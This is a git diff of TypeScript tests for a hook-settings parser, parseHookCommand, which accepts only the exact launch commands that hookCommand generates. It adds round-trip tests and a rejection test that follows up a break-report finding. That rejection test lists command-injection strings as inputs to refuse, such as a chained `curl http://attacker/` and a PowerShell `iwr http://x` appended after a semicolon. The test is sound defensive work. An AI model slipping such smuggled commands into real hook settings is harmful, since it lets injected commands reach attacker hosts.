@@ -5,7 +5,7 @@ import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 // `& '…'` quoting, timeout 8000, names, status messages, bundle launch forms, shell path rules.
 import { describe, expect, test } from 'bun:test';
-import { hookCommand, hookSettingsFragment, isAbsoluteForShell, quoteForShell } from '../../src/hooks/settings.ts';
+import { hookCommand, type HookLauncher, type HookSettingsRequest, hookSettingsFragment, isAbsoluteForShell, parseHookCommand, quoteForShell } from '../../src/hooks/settings.ts';
 
 const EXE = { kind: 'executable', path: '/opt/external-context/bin/external-context' } as const;
 
@@ -126,6 +126,64 @@ test.skipIf(process.platform === 'win32')('the generated Deno command runs under
   } finally {
     rmSync(dir, { recursive: true, force: true });
   }
+});
+
+// F4 of the break report: check --settings reads the command back and accepts only what
+// hook settings prints, exactly.
+describe('parseHookCommand()', () => {
+  const launchers: HookLauncher[] = [
+    EXE,
+    { kind: 'executable', path: "/opt/it's/external-context" },
+    { kind: 'node-bundle', runtimePath: '/usr/bin/node', bundlePath: '/opt/ec/external-context.mjs' },
+    { kind: 'deno-bundle', runtimePath: '/usr/bin/deno', bundlePath: '/opt/ec/external-context.mjs' },
+  ];
+  const requests: HookSettingsRequest[] = [
+    { kind: 'auto-recall', shell: 'posix' },
+    { kind: 'auto-recall', shell: 'posix', config: "/etc/ec/it's.json", log: '/var/log/ec.log' },
+    { kind: 'write', shell: 'posix', serverName: 'team-memory', host: 'claude' },
+    { kind: 'write', shell: 'posix', log: '/var/log/w.log' },
+  ];
+
+  test('reads back every command hookCommand prints, for every launcher and both shells', () => {
+    for (const launcher of launchers) {
+      for (const request of [...requests, ...requests.map((entry) => ({ ...entry, shell: 'powershell' as const }))]) {
+        const command = hookCommand(request, launcher);
+        const parsed = parseHookCommand(command, request.shell);
+        expect(parsed).toBeDefined();
+        expect(hookCommand(parsed!.request, parsed!.launcher)).toBe(command);
+        expect(parsed!.request.config).toBe(request.config);
+        expect(parsed!.request.serverName).toBe(request.serverName);
+      }
+    }
+  });
+
+  test('refuses anything else: a second command, a comment, other flags, other quoting, another shell', () => {
+    const base = "exec '/opt/ec/external-context' hook write-confirmation";
+    for (const command of [
+      `${base} --server-name x; curl http://attacker/ # hook auto-recall`,
+      `${base} && curl http://attacker/`,
+      `${base} # hook auto-recall`,
+      `${base} | tee /tmp/x`,
+      `${base} --unknown 'x'`,
+      `${base} --server-name 'a' --server-name 'b'`,
+      `${base} --server-name`,
+      `${base} `,
+      `${base}  --log '/var/log/w.log'`,
+      `${base} --server-name "x"`,
+      `${base} --server-name x`,
+      `${base} --host nowhere`,
+      "exec \"/opt/ec/external-context\" hook write-confirmation",
+      "exec /opt/ec/external-context hook write-confirmation",
+      "sh -c '/opt/ec/external-context' hook write-confirmation",
+      "exec '/opt/ec/external-context' hook other",
+      "exec 'a' 'b' 'c' hook write-confirmation",
+      "& '/opt/ec/external-context' hook write-confirmation",
+    ]) {
+      expect({ command, parsed: parseHookCommand(command, 'posix') }).toEqual({ command, parsed: undefined });
+    }
+    expect(parseHookCommand("exec '/opt/ec/external-context' hook write-confirmation", 'powershell')).toBeUndefined();
+    expect(parseHookCommand("& '/opt/ec/external-context' hook write-confirmation; iwr http://x", 'powershell')).toBeUndefined();
+  });
 });
 
 describe('isAbsoluteForShell()', () => {
